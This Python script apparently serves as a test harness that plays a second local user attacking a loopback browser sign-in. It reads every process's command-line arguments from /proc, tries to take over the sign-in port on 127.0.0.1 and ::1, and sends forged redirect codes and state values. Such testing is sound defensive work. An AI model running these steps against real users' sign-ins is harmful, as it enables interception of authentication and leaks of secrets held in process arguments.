"""Another local user (run as uid 65534) attacking a browser sign-in in progress.

    signin_attacker.py scan                 every process's arguments this user can read
    signin_attacker.py attack PID PORT      also: the stand-in browser's arguments, its start page
                                            fetched, [::1]:PORT and 127.0.0.1:PORT bound, forged
                                            redirects sent to both addresses

Prints one JSON object: what it read, and what each attempt got (an HTTP status, or the errno).
"""
import errno
import http.client
import json
import os
import socket
import sys


def all_arguments():
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    found.append(f.read().decode(errors="replace").replace("\0", " "))
            except OSError:
                pass
    return found


def get(host, port, target):
    try:
        connection = http.client.HTTPConnection(host, port, timeout=30)
        connection.request("GET", target, headers={"Host": "localhost:%d" % port})
        response = connection.getresponse()
        return {"status": response.status, "location": response.getheader("Location")}
    except OSError as error:
        return {"status": None, "error": error.errno}


def bind(family, host, port):
    sock = socket.socket(family, socket.SOCK_STREAM)
    try:
        if family == socket.AF_INET6:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((host, port))
        sock.listen(1)
        return "bound"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    finally:
        sock.close()


def main():
    out = {"uid": os.getuid(), "arguments": all_arguments()}
    if sys.argv[1] == "attack":
        pid, port = sys.argv[2], int(sys.argv[3])
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            out["browser_arguments"] = f.read().decode(errors="replace").rstrip("\0").split("\0")
        prefix = "http://localhost:%d" % port
        start = next((a for a in out["browser_arguments"] if a.startswith(prefix)), prefix + "/")
        hosts = ("127.0.0.1", "::1")
        out["start"] = [get(host, port, start[len(prefix):]) for host in hosts]
        out["bind"] = {"::1": bind(socket.AF_INET6, "::1", port), "127.0.0.1": bind(socket.AF_INET, "127.0.0.1", port)}
        forged = ("/?error=x", "/?code=forged", "/?code=forged&state=wrong", "/?error=access_denied&state=")
        out["forged"] = [get(host, port, target) for host in hosts for target in forged]
    print(json.dumps(out))


main()
